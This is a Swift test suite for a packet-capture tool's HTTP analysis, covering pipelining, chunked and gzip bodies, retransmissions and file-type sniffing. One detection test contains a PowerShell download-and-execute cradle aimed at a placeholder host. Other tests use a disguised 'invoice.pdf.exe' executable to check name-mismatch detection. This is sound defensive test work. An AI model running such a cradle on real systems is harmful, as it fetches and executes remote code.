#if canImport(Glibc)
import Glibc
#endif
import CaptureReading
import PacketDecoding
import Support
import TestSupport
import Testing
@testable import TrafficStatistics

/// One TCP connection 10.0.0.5:40000 -> 10.0.0.9:80 written as a capture: each step is a direction
/// (true: client to server), its payload and, optionally, a sequence offset to resend earlier bytes.
private struct Conversation {
    var frames = PcapFileBuilder()
    var clientNext: UInt32 = 1001, serverNext: UInt32 = 5001
    var count = 0

    init() {
        frames.append(FrameBuilder.tcpFrame("10.0.0.5", 40000, "10.0.0.9", 80, flags: 0x02, sequence: 1000))
        frames.append(FrameBuilder.tcpFrame("10.0.0.9", 80, "10.0.0.5", 40000, flags: 0x12, sequence: 5000, acknowledgment: 1001))
        count = 2
    }

    mutating func send(_ fromClient: Bool, _ payload: [UInt8], back: UInt32 = 0, skip: UInt32 = 0, flags: UInt8 = 0x18) {
        count += 1
        if fromClient {
            frames.append(
                FrameBuilder.tcpFrame(
                    "10.0.0.5", 40000, "10.0.0.9", 80, flags: flags, sequence: clientNext - back + skip, payload: payload),
                microseconds: UInt32(count))
            if back == 0 { clientNext += UInt32(payload.count) + skip }
        } else {
            frames.append(
                FrameBuilder.tcpFrame(
                    "10.0.0.9", 80, "10.0.0.5", 40000, flags: flags, sequence: serverNext - back + skip, payload: payload),
                microseconds: UInt32(count))
            if back == 0 { serverNext += UInt32(payload.count) + skip }
        }
    }

    mutating func send(_ fromClient: Bool, _ text: String, back: UInt32 = 0, skip: UInt32 = 0, flags: UInt8 = 0x18) {
        send(fromClient, Array(text.utf8), back: back, skip: skip, flags: flags)
    }

    func analyze() throws -> HTTPActivity { try CaptureAnalysis.analyze(path: frames.write()).http }
}

private let peBody: [UInt8] = Array("MZ".utf8) + [0x90, 0x00, 0x03, 0x00] + [UInt8](repeating: 0x41, count: 58)

@Test func pipelinedRequestsPairWithTheirResponsesInOrder() throws {
    var c = Conversation()
    c.send(true, "GET /a HTTP/1.1\r\nHost: example.com\r\nUser-Agent: test/1\r\n\r\nHEAD /b HTTP/1.1\r\nHost: example.com\r\n\r\n")
    c.send(true, "POST /c HTTP/1.1\r\nHost: example.com\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 3\r\n\r\na=1")
    c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\nContent-Type: text/plain\r\n\r\nhello")
    // The HEAD response announces a length but has no body: the next bytes are the next response.
    c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\nHTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
    let http = try c.analyze()
    #expect(http.requests == 3)
    #expect(http.responses == 3)
    #expect(http.methods == ["GET": 1, "HEAD": 1, "POST": 1])
    #expect(http.statusCodes == [200: 2, 404: 1])
    #expect(http.unpairedResponses == 0)
    let rows = http.transactions
    try #require(rows.count == 3)
    #expect(rows.map(\.method) == ["GET", "HEAD", "POST"])
    #expect(rows.map(\.statusCode) == [200, 200, 404])
    #expect(rows[0].host == "example.com" && rows[0].userAgent == "test/1" && rows[0].target == "/a")
    #expect(rows[0].requestFrame == 3 && rows[2].requestFrame == 4 && rows[0].responseFrame == 5)
    #expect(rows[1].responseFrame == 6 && rows[2].responseFrame == 6)
    #expect(rows[0].responseBody?.size == 5)
    #expect(rows[0].responseBody?.sha256 == Digest.sha256(text: "hello"))
    #expect(rows[0].responseBody?.md5 == Digest.md5(text: "hello"))
    #expect(rows[1].responseBody == nil)
    #expect(rows[2].requestBody?.size == 3 && rows[2].requestContentType == "application/x-www-form-urlencoded")
    #expect(rows[0].client == IPAddress("10.0.0.5") && rows[0].serverPort == 80)
}

@Test func chunkedBodySplitAcrossSegmentsIsHashedDecoded() throws {
    var c = Conversation()
    c.send(true, "GET /files/invoice.pdf.exe HTTP/1.1\r\nHost: 10.0.0.9\r\n\r\n")
    let chunked =
        Array("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nContent-Type: application/pdf\r\n\r\n".utf8)
        + Array("a;ext=1\r\n".utf8) + peBody[0 ..< 10] + Array("\r\n36\r\n".utf8) + peBody[10...] + Array("\r\n0\r\nX-T: 1\r\n\r\n".utf8)
    // Cut at every awkward place: inside the head, the size line, the data and the final CRLF.
    let cuts = [0, 20, 85, 88, 95, 100, 130, chunked.count - 3, chunked.count]
    for k in 0 ..< cuts.count - 1 { c.send(false, Array(chunked[cuts[k] ..< cuts[k + 1]])) }
    let http = try c.analyze()
    #expect(http.responses == 1)
    let row = try #require(http.transactions.first)
    let body = try #require(row.responseBody)
    #expect(body.size == peBody.count && body.complete)
    #expect(body.magic == .pe)
    let expected = peBody.withUnsafeBytes { bytes in
        let d = StreamingDigest(.sha256); d.update(bytes); return d.finish()
    }
    #expect(body.sha256 == expected)
    #expect(row.fileName == "invoice.pdf.exe")
    #expect(!row.fileTypeMismatch, "a PE named .exe is what it says")
    #expect(row.responseFrame == 2 + 1 + cuts.count - 1)
}

@Test func retransmittedSegmentsAreReadOnce() throws {
    var c = Conversation()
    c.send(true, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n")
    c.send(true, "GET /x HTTP/1.1\r\nHost: a\r\n\r\n", back: 29)  // the same bytes again
    c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nab")
    c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 4\r\n\r\nab", back: 40)
    c.send(false, "cd")
    let http = try c.analyze()
    #expect(http.requests == 1 && http.responses == 1)
    #expect(http.transactions.first?.responseBody?.sha256 == Digest.sha256(text: "abcd"))
}

@Test func missingResponseIsCountedUnansweredAndGapsEndTheMessage() throws {
    var c = Conversation()
    c.send(true, "GET /one HTTP/1.1\r\nHost: a\r\n\r\n")
    c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n01234")
    // Five body bytes never captured: the body is incomplete and has no digest; the next message resynchronises.
    c.send(true, "GET /two HTTP/1.1\r\nHost: a\r\n\r\n")
    c.send(false, "HTTP/1.1 204 No Content\r\n\r\n", skip: 5)
    c.send(true, "GET /three HTTP/1.1\r\nHost: a\r\n\r\n")
    c.send(true, "", flags: 0x11)
    c.send(false, "", flags: 0x11)
    let http = try c.analyze()
    #expect(http.requests == 3)
    #expect(http.responses == 1, "the cut 200 is not a complete message (tshark does not count it either)")
    #expect(http.incompleteMessages == 1)
    #expect(http.unansweredRequests == 1)
    let rows = http.transactions
    try #require(rows.count == 3)
    #expect(rows[0].responseBody?.complete == false && rows[0].responseBody?.sha256 == "")
    #expect(rows[1].statusCode == 204)
    #expect(rows[2].statusCode == nil)
}

@Test func bodyUntilCloseEndsAtFIN() throws {
    var c = Conversation()
    c.send(true, "GET /run.sh HTTP/1.0\r\n\r\n")
    c.send(false, "HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\n#!/bin/sh\necho hi\n")
    c.send(false, "", flags: 0x11)
    let http = try c.analyze()
    #expect(http.responses == 1)
    let row = try #require(http.transactions.first)
    #expect(row.responseBody?.magic == .script && row.responseBody?.complete == true)
    #expect(row.responseFrame == 5)
}

@Test func rowsAreCappedAndTotalsStayExact() throws {
    var c = Conversation()
    for i in 0 ..< 5 {
        c.send(true, "GET /\(i) HTTP/1.1\r\nHost: a\r\n\r\n")
        c.send(false, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n")
    }
    var analysis = CaptureAnalysis(options: AnalysisOptions(httpTransactionsKept: 2))
    let reader = try CaptureReader(path: c.frames.write())
    reader.forEachRecord { analysis.observe($0, linkType: LinkType(rawValue: $0.linkType)) }
    let http = analysis.finish(file: reader.finish()).http
    #expect(http.transactions.count == 2 && http.transactionsDropped == 3)
    #expect(http.requests == 5 && http.responses == 5 && http.statusCodes == [200: 5])
}

@Test func malformedHeadsNeverTrap() throws {
    var c = Conversation()
    c.send(true, "GET / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\n")
    c.send(true, "GET / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n")
    c.send(false, "HTTP/1.1 abc\r\n\r\n")
    c.send(false, Array(repeating: UInt8(0x41), count: 1400))
    _ = try c.analyze()
}

@Test func magicBytesAndNameMismatch() {
    #expect(FileMagic.sniff(peBody) == .pe)
    #expect(FileMagic.sniff([0x7F, 0x45, 0x4C, 0x46, 2]) == .elf)
    #expect(FileMagic.sniff([0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1]) == .machO)
    #expect(FileMagic.sniff(Array("%PDF-1.7\n".utf8)) == .pdf)
    #expect(FileMagic.sniff([0x1F, 0x8B, 8, 0]) == .gzip)
    #expect(FileMagic.sniff(Array("  <!DOCTYPE html><html>".utf8)) == .html)
    #expect(FileMagic.sniff(Array("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".utf8)) == .powershell)
    let ooxml: [UInt8] = [0x50, 0x4B, 3, 4] + [UInt8](repeating: 0, count: 22) + [19, 0, 0, 0] + Array("[Content_Types].xml".utf8)
    #expect(FileMagic.sniff(ooxml) == .officeOpenXML)
    #expect(FileMagic.sniff([0x50, 0x4B, 3, 4, 0]) == .zip)
    #expect(FileMagic.pe.mismatches(name: "invoice.pdf"))
    #expect(FileMagic.pe.mismatches(name: "download"), "an executable without an extension")
    #expect(!FileMagic.pe.mismatches(name: "setup.exe"))
    #expect(!FileMagic.html.mismatches(name: "index.php"), "servers answer scripts with HTML")
    #expect(FileMagic.html.mismatches(name: "report.pdf"))
    #expect(!FileMagic.officeOpenXML.mismatches(name: "a.docx"))
    #expect(
        HTTPTransactionPass.fileName(disposition: "attachment; filename=\"inv%20oice.pdf.exe\"", target: "/dl?id=1")
            == "inv%20oice.pdf.exe")
    #expect(HTTPTransactionPass.fileName(disposition: "", target: "http://h/a/b/inv%20oice.pdf?x=/y") == "inv oice.pdf")
    #expect(HTTPTransactionPass.fileName(disposition: "", target: "/dir/") == "")
}

@Test(arguments: [
    ("gzip", "1f8b0800000000000203530d7071d335d43357c848cdc9c947260160665f9d1a000000"),
    ("deflate", "789c530d7071d335d43357c848cdc9c94726016443085f"),
    ("deflate", "530d7071d335d43357c848cdc9c9472601"),  // raw deflate, no zlib header
])
func encodedBodyIsHashedAsTheDecodedObject(encoding: String, hex: String) throws {
    let encoded = hexBytes(hex)
    var c = Conversation()
    c.send(true, "GET /doc.pdf HTTP/1.1\r\nHost: a\r\n\r\n")
    let head = "HTTP/1.1 200 OK\r\nContent-Encoding: \(encoding)\r\nContent-Length: \(encoded.count)\r\n\r\n"
    c.send(false, Array(head.utf8) + encoded[0 ..< 7])
    c.send(false, Array(encoded[7...]))
    let body = try #require(try c.analyze().transactions.first?.responseBody)
    #expect(body.size == encoded.count)
    #expect(body.decodedSize == 26)
    #expect(body.magic == .pdf)
    #expect(body.sha256 == Digest.sha256(text: "%PDF-1.7 hello hello hello"))
}

@Test func openHeadsAreBoundedPerDirectionAndInNumber() {
    var pass = HTTPTransactionPass()
    let head = Array("GET / HTTP/1.1\r\nX: ".utf8) + [UInt8](repeating: 0x61, count: 1000)
    // More directions than kept, each with a head that never ends.
    for slot in 0 ..< HTTPTransactionPass.directionsKept + 100 {
        head.withUnsafeBytes { bytes in
            let chunk = TCPChunk(
                slot: 2 * slot, bytes: bytes, gapBefore: false, truncated: false, first: true, frame: slot + 1, timestamp: 0)
            pass.observe(chunk, DecodedPacket(), flow: FlowRef())
        }
    }
    #expect(pass.directions.count == HTTPTransactionPass.directionsKept)
    // One direction sending a head past the cap gives it up instead of buffering on.
    var one = HTTPTransactionPass()
    let filler = [UInt8](repeating: 0x61, count: 4096)
    for k in 0 ..< 10 {
        (k == 0 ? head : filler).withUnsafeBytes { bytes in
            let chunk = TCPChunk(slot: 0, bytes: bytes, gapBefore: false, truncated: false, first: k == 0, frame: k + 1, timestamp: 0)
            one.observe(chunk, DecodedPacket(), flow: FlowRef())
        }
        #expect((one.directions[0]?.line.count ?? 0) <= HTTPTransactionPass.headBytesKept)
    }
    #expect(one.finish().incompleteMessages == 1)
}

@Test func randomHTTPLikeBytesNeverTrap() {
    // Seeded pieces of HTTP grammar and noise, cut at random places, on a few directions with gaps.
    var state: UInt64 = 0x2545_F491_4F6C_DD1D
    func next(_ n: Int) -> Int {
        state = state &* 6_364_136_223_846_793_005 &+ 1_442_695_040_888_963_407
        return Int((state >> 33) % UInt64(n))
    }
    let pieces = [
        "GET / HTTP/1.1\r\n", "HTTP/1.1 200 OK\r\n", "HTTP/1.1 100 Continue\r\n\r\n", "Content-Length: 7\r\n",
        "Transfer-Encoding: chunked\r\n", "Content-Encoding: gzip\r\n", "\r\n", "5\r\nabcde\r\n", "0\r\n\r\n", "fffffffffffff\r\n",
        "HEAD / HTTP/1.1\r\n", "CONNECT a:443 HTTP/1.1\r\n", "\u{1F}\u{8B}\u{08}\u{00}garbage", "MZ\u{90}", ";;;\r\n",
    ].map { Array($0.utf8) }
    var pass = HTTPTransactionPass(transactionsKept: 50)
    var packet = DecodedPacket()
    for frame in 1 ... 20_000 {
        var bytes: [UInt8] = []
        for _ in 0 ..< 1 + next(4) { bytes += pieces[next(pieces.count)] }
        bytes = Array(bytes.prefix(1 + next(bytes.count)))
        let slot = next(6)
        bytes.withUnsafeBytes { raw in
            let chunk = TCPChunk(
                slot: slot, bytes: raw, gapBefore: next(50) == 0, truncated: false, first: next(500) == 0, frame: frame,
                timestamp: 0)
            packet.tcpFlags = next(200) == 0 ? .fin : []
            pass.observe(chunk, packet, flow: FlowRef(stream: Int32(slot >> 1), forward: slot & 1 == 0))
        }
    }
    let http = pass.finish()
    #expect(http.transactions.count <= 50)
    #expect(http.methods.keys.allSatisfy { ["GET", "HEAD", "CONNECT"].contains($0) })
}

@Test func bodiesPastTheRowCapAreCountedButNotHashed() {
    // Three transactions on one stream, one row kept: only the kept row's body is hashed (on the
    // digest worker); the others are still counted, sized and sniffed for the totals and evidence.
    var pass = HTTPTransactionPass(transactionsKept: 1)
    var frame = 0
    func send(_ slot: Int, _ text: String) {
        frame += 1
        Array(text.utf8).withUnsafeBytes { bytes in
            let chunk = TCPChunk(
                slot: slot, bytes: bytes, gapBefore: false, truncated: false, first: frame <= 2, frame: frame, timestamp: 0)
            pass.observe(chunk, DecodedPacket(), flow: FlowRef(stream: 0, forward: slot == 0))
        }
    }
    for k in 0 ..< 3 {
        send(0, "GET /\(k) HTTP/1.1\r\nHost: a\r\n\r\n")
        send(1, "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nbody\(k)")
    }
    let http = pass.finish()
    #expect(http.requests == 3 && http.responses == 3 && http.transactionsDropped == 2)
    #expect(http.transactions.count == 1)
    #expect(http.transactions.first?.responseBody?.sha256 == Digest.sha256(text: "body0"))
    #expect(http.transactions.first?.responseBody?.md5 == Digest.md5(text: "body0"))
    // A job per message of the kept row (its bodiless request's costs nothing); none for the other four.
    #expect(pass.digests.jobsStarted == 2, "the messages without a row opened no digest job")
}
